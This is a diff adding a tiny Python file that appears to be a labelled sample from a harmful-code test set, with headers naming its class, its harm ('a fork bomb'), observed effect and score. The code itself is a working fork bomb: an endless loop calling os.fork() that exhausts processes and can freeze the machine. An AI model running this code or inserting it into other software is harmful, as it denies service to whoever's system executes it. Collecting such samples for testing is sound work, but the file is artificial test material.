@@ -1,0 +1,11 @@
+# class: processes
+# harm: a fork bomb
+# shown: 65 processes after milliseconds
+# score: 0
+# why: fork bomb
+
+import os
+
+
+while True:
+    os.fork()
